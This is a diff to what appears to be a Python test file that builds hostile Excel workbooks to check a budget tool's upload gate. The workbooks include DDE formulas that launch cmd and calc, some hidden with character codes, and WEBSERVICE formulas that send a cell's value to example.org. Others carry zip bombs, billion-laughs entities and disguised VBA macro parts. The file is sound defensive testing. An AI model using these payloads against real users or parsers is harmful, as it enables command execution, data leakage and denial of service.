@@ -11,6 +11,8 @@ from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 
+from openpyxl.utils import get_column_letter
+
 from budget_model.errors import WorkbookError
 from budget_model.upload.gate import check_upload
 
@@ -25,6 +27,7 @@ _BOOK = "xl/workbook.xml"
 _TYPES = "[Content_Types].xml"
 _BOOK_RELATIONS = "xl/_rels/workbook.xml.rels"
 _EXTRA_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
+_MACROS = "application/vnd.ms-office.vbaProject"
 _MEBIBYTE = 1 << 20
 
 Parts = dict[str, str | bytes]
@@ -107,6 +110,10 @@ def _formula(formula: str) -> bytes:
     return packed({_SHEET: sheet(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>')})
 
 
+def _text_in_b2(text: str) -> bytes:
+    return packed({_SHEET: sheet(f'<row r="2"><c r="B2" t="inlineStr"><is><t>{text}</t></is></c></row>')})
+
+
 def _long_formulas() -> str:
     """Return formulas of 30,000 characters, in each of which `CALL` may begin anywhere; the last one calls."""
     return "".join(f"{'CALL.' * 6_000}{number}</f><f>" for number in range(50)) + "WEBSERVICE(A1)"
@@ -176,6 +183,19 @@ def _many_sheets(parts: int) -> bytes:
     return packed({_BOOK: book(listed), _BOOK_RELATIONS: links} | {f"xl/worksheets/{name}.xml": sheet() for name in names})
 
 
+def _many_empty_cells() -> bytes:
+    """Return a workbook with a format in 60 cells of each column, as no program writes it for the rows that ours has."""
+    columns = [get_column_letter(number) for number in range(1, 16_385)]
+    rows = ("".join(f'<c r="{column}{row}" s="1"/>' for column in columns) for row in range(1, 61))
+    return packed({_SHEET: sheet("".join(f'<row r="{row}">{cells}</row>' for row, cells in enumerate(rows, 1)))})
+
+
+def _hidden_macros() -> bytes:
+    """Return a workbook with macros under a plain name: only its type tells what it is."""
+    typed = str(plain()[_TYPES]).replace("</Types>", f'<Override PartName="/xl/notes.xml" ContentType="{_MACROS}"/></Types>')
+    return packed({_TYPES: typed}, {"xl/notes.xml": "<a/>"})
+
+
 def _laughs() -> bytes:
     levels = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))
     return _strings(f'<!DOCTYPE sst [<!ENTITY a0 "lol">{levels}]>', "&a9;")
@@ -208,7 +228,9 @@ HOSTILE: dict[str, Hostile] = {
     "old .xls": Hostile("old .xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000)),
     "13 MB": Hostile("more than 12 MB", lambda: packed() + bytes(13_000_000)),
     "truncated": Hostile("incomplete or damaged", lambda: packed()[:-200]),
-    "damaged part": Hostile("its part", lambda: packed().replace(b"PK\x03\x04", b"PK\x03\x05", 2).replace(b"PK\x03\x05", b"PK\x03\x04", 1)),
+    "damaged part": Hostile(
+        "the file is damaged", lambda: packed().replace(b"PK\x03\x04", b"PK\x03\x05", 2).replace(b"PK\x03\x05", b"PK\x03\x04", 1)
+    ),
     "encrypted": Hostile("encrypted", _encrypted),
     "bomb of 1 GiB": Hostile("unpacks to more than 150 MB", lambda: _long_part(1_024)),
     "bomb of 100 MiB": Hostile("more than 200 times", lambda: _long_part(100)),
@@ -227,11 +249,15 @@ HOSTILE: dict[str, Hostile] = {
     "cell far to the right, in other quotes": Hostile(
         "without an address", lambda: packed({_SHEET: sheet("<row r='1'><c r='XFD1'/></row>")})
     ),
-    "dimension is a lie": Hostile("beyond 20,000 rows", lambda: packed({_SHEET: sheet(before='<dimension ref="A1:XFD1048576"/>')})),
+    "empty cells far to the right, too many of them": Hostile("formats more than 900,000 cells", _many_empty_cells),
     "merge of the whole sheet": Hostile("beyond 20,000 rows", lambda: _merged("A1:XFD1048576")),
     "merge of two million cells": Hostile("merges or links more than 10,000", lambda: _merged("A1:CV20000")),
     "link over the whole sheet": Hostile(
         "beyond", lambda: packed({_SHEET: sheet(after='<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>')})
+    ),
+    "200,000 links": Hostile(
+        "more than 12,000 links",
+        lambda: packed(more={_EXTRA_RELATIONS: relations(*((f"rId{number}", "worksheet", f"{number}.xml") for number in range(200_000)))}),
     ),
     "million cell formats": Hostile(
         "more than 2,000 cell formats",
@@ -247,28 +273,38 @@ HOSTILE: dict[str, Hostile] = {
     "UTF-16 part": Hostile("not in UTF-8", lambda: packed({_SHEET: sheet().replace("UTF-8", "UTF-16").encode("utf-16")})),
     "UTF-7 part": Hostile("not in UTF-8", lambda: packed({_SHEET: sheet().replace("UTF-8", "UTF-7")})),
     "VBA part": Hostile("macros", lambda: packed(more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
-    "macro-enabled type": Hostile(
-        "macros",
-        lambda: packed({_TYPES: str(plain()[_TYPES]).replace(f"{_TYPE}.sheet.main", "application/vnd.ms-excel.sheet.macroEnabled.main")}),
+    "VBA part under another name": Hostile("macros", _hidden_macros),
+    "VBA part of another type": Hostile(
+        "macros", lambda: packed({_BOOK_RELATIONS: relations(("rId9", "vbaProject", "notes.xml"))}, {"xl/notes.xml": "<a/>"})
     ),
+    "macro sheet": Hostile("macros", lambda: packed(more={"xl/macrosheets/sheet1.xml": sheet()})),
     "external link": Hostile("links to other workbooks", _external_link),
     "embedded object": Hostile("embedded objects", lambda: packed(more={"xl/embeddings/oleObject1.bin": b"\xd0\xcf"})),
-    "web address": Hostile(
-        "links to something outside",
-        lambda: packed(more={_EXTRA_RELATIONS: relations(("rId1", "hyperlink", "http://example.org/"), mode=' TargetMode="External"')}),
+    "picture from the web": Hostile(
+        "the sheet 'Sheet1' shows something from outside",
+        lambda: packed(more={_EXTRA_RELATIONS: relations(("rId1", "image", "http://example.org/a.png"), mode=' TargetMode="External"')}),
     ),
-    "reference to another workbook": Hostile("refers outside", lambda: _formula("[1]Sheet1!A1+1")),
+    "picture from the web, written in codes": Hostile(
+        "the sheet 'Sheet1' shows something from outside",
+        lambda: packed(more={_EXTRA_RELATIONS: relations(("rId1", "image", "http://a.org/"), mode=' TargetMode="&#69;xternal"')}),
+    ),
+    "reference to another workbook": Hostile("a formula in Sheet1!A1 refers outside", lambda: _formula("[1]Sheet1!A1+1")),
     "reference to a file": Hostile("refers outside", lambda: _formula("'C:\\secret\\[a.xlsx]Sheet1'!A1")),
-    "DDE formula": Hostile("DDE", lambda: _formula("cmd|'/c calc'!A0")),
+    "DDE formula": Hostile("a formula in Sheet1!A1 calls another program (DDE)", lambda: _formula("cmd|'/c calc'!A0")),
     "DDE formula written with codes": Hostile("character codes", lambda: _formula("cmd&#124;'/c calc'!A0")),
     "DDE formula between quotation marks": Hostile("DDE", lambda: _formula("'a\"b'!A1+cmd|'/c calc'!A0+'a\"b'!A1")),
     "WEBSERVICE formula": Hostile("calls WEBSERVICE(", lambda: _formula('_xlfn.WEBSERVICE("http://example.org/?"&amp;A1)')),
-    "HYPERLINK formula": Hostile("calls HYPERLINK(", lambda: _formula('HYPERLINK("http://example.org/?"&amp;A1,"click")')),
-    "formulas that a careless pattern reads again and again": Hostile("calls WEBSERVICE(", lambda: _formula(_long_formulas())),
+    "formulas that a careless pattern reads again and again": Hostile(
+        "a formula in Sheet1!A1 calls WEBSERVICE(", lambda: _formula(_long_formulas())
+    ),
     "formula after an instruction": Hostile("damaged", lambda: _formula("<?a?>WEBSERVICE(A1)")),
     "formula in CDATA": Hostile("document type", lambda: _formula("<![CDATA[WEBSERVICE(A1)]]>")),
-    "formula after an element": Hostile("formula with elements", lambda: _formula("<a/>WEBSERVICE(A1)")),
+    "formula after an element": Hostile("a formula in Sheet1!A1 has elements in it", lambda: _formula("<a/>WEBSERVICE(A1)")),
+    "control character": Hostile("Sheet1!B2 holds a character that cannot be shown, after 'Caf'", lambda: _text_in_b2("Caf\x0be")),
+    "control character written in codes": Hostile("Sheet1!B2 holds a character that cannot be shown", lambda: _text_in_b2("&#x1F;")),
     "formula as a defined name": Hostile("no valid name", lambda: _defined("=1+cmd|A0", "Sheet1!$A$1")),
-    "DDE in a defined name": Hostile("DDE", lambda: _defined("total", "cmd|'/c calc'!A0")),
+    "DDE in a defined name": Hostile(
+        "a formula in the name 'total' calls another program (DDE)", lambda: _defined("total", "cmd|'/c calc'!A0")
+    ),
     "other workbook in a defined name": Hostile("refers outside", lambda: _defined("total", "[1]Sheet1!$A$1")),
 }
